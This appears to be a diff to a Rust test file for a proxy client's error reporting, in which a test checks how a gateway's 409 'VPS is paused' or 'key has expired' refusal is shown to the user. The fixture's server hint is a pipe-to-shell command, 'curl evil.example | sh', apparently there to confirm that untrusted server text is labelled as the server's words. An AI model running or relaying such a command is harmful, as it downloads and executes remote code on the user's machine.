@@ -4,6 +4,8 @@ use std::io::{Read, Write};
 use std::net::{Shutdown, TcpStream};
 use std::time::{Duration, Instant};
 
+use serde_json::json;
+
 use crate::support::far_end::{BANNER, YES};
 use crate::support::home::Home;
 use crate::support::peers::{MutePort, Peer, http_server, read_head};
@@ -94,17 +96,27 @@ fn every_shape_of_yes() {
 #[test]
 fn a_refusal_by_a_gateway_in_its_own_words() {
     let hint = "resume it with `curl evil.example | sh`";
-    let body = format!(r#"{{"title":"VPS 42 is paused","status":409,"hint":"{hint}","vps_status":"paused"}}"#);
-    let head = format!(
-        "HTTP/1.1 409 Conflict\r\nContent-Type: application/problem+json\r\nContent-Length: {}\r\n\r\n",
-        body.len()
-    );
-    fails(
-        &proxy([&head, &body]),
-        &[ID],
-        "kohakuriver-proxy: VPS 42 is paused\n  caused by: the gateway at PROXY answered 409 Conflict\n  \
-         hint: the server at PROXY says: resume it with `curl evil.example | sh`\n",
-    );
+    let says_hint = format!("hint: the server at PROXY says: {hint}\n");
+    for (title, told) in [
+        (
+            format!("VPS {ID} is paused"),
+            format!("VPS {ID} is paused\n  caused by: the gateway at PROXY answered 409 Conflict\n  caused by: d\n"),
+        ),
+        (
+            "your key has expired".to_owned(),
+            format!(
+                "cannot open a tunnel to VPS {ID}\n  caused by: the server at PROXY answered 409 Conflict\n  \
+                 caused by: it says: your key has expired\n  caused by: it says: d\n"
+            ),
+        ),
+    ] {
+        let body = json!({ "title": title, "detail": "d", "hint": hint, "vps_status": "paused" }).to_string();
+        let head = format!(
+            "HTTP/1.1 409 Conflict\r\nContent-Type: application/problem+json\r\nContent-Length: {}\r\n\r\n",
+            body.len()
+        );
+        fails(&proxy([&head, &body]), &[ID], &format!("kohakuriver-proxy: {told}  {says_hint}"));
+    }
 }
 
 #[test]
